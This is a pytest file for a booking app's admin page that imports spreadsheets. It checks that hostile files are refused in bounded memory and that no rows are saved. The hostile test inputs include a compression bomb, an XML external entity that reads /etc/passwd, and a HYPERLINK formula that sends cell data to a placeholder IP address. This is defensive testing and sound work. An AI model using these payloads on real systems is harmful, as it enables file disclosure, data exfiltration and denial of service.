"""Hostile tables through the page that takes them: refused in bounded memory, with no row of them saved.

What the reader of tables refuses, form by form, is in ``tests/booking/infrastructure/test_spreadsheets.py``.
"""

import io
import tracemalloc
from collections.abc import Callable

import pytest
from openpyxl import Workbook

from apps.booking.infrastructure.spreadsheets import MAX_BYTES
from apps.booking.models import Service
from tests.booking.infrastructure.test_spreadsheets import with_member
from tests.booking.presentation.admin.pages import signed_in_as
from tests.booking.presentation.admin.test_import import NEW_SERVICE, as_csv, as_xlsx, upload

pytestmark = pytest.mark.django_db

BOUND = 40_000_000
"""Bytes that a page may take at most, whatever is uploaded."""


def bomb() -> bytes:
    return with_member(as_xlsx(NEW_SERVICE), "xl/sharedStrings.xml", b" " * 200_000_000)


def entities() -> bytes:
    member = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst>&x;</sst>'
    return with_member(as_xlsx(NEW_SERVICE), "xl/sharedStrings.xml", member)


def formulas() -> bytes:
    book = Workbook()
    book.active.append(list(NEW_SERVICE))
    book.active.append(list(NEW_SERVICE.values()))
    book.active.append(["other", '=HYPERLINK("http://192.0.2.1/?"&A1)', "=1+1"])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def a_million_rows() -> bytes:
    heading, row = as_csv(NEW_SERVICE).split(b"\n")
    rows = heading + b"\n" + (row + b"\n") * 1_000_000
    assert len(rows) > MAX_BYTES
    return rows


def a_million_short_rows() -> bytes:
    """As many as fit into the size that is let through."""
    return "Адрес в ссылках\n".encode("utf-8-sig") + b"a\n" * (1_000_000 - 20)


def a_million_packed_rows() -> bytes:
    cells = b"".join(b'<row r="%d"><c><v>1</v></c></row>' % number for number in range(1, 1_000_001))
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + cells
        + b"</sheetData></worksheet>"
    )
    return with_member(as_xlsx(NEW_SERVICE), "xl/worksheets/sheet1.xml", sheet)


@pytest.mark.parametrize(
    "hostile", [bomb, entities, a_million_short_rows, a_million_packed_rows], ids=lambda each: each.__name__
)
def test_a_hostile_table_is_refused_in_bounded_memory(hostile: Callable[[], bytes]) -> None:
    content, browser = hostile(), signed_in_as("owner")
    assert len(content) <= 6 * MAX_BYTES
    upload(browser, as_csv(NEW_SERVICE))  # what is loaded once is no part of the measure
    tracemalloc.start()
    response = upload(browser, content)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert response.status_code == 200
    assert response.context["plan"] is None
    assert response.context["form"].errors["table"]
    assert "root:" not in response.content.decode()
    assert peak < BOUND
    assert not Service.objects.exists()


def test_a_million_rows_are_refused_by_their_size() -> None:
    response = upload(signed_in_as("owner"), a_million_rows())

    assert response.status_code in {200, 413}
    assert not Service.objects.exists()


def test_a_formula_is_text_or_refused_and_takes_no_other_row_along() -> None:
    response = upload(signed_in_as("owner"), formulas())

    assert response.status_code == 200
    plan = response.context["plan"]
    assert plan is None or any(row.errors for row in plan.rows)
    assert not Service.objects.exists()
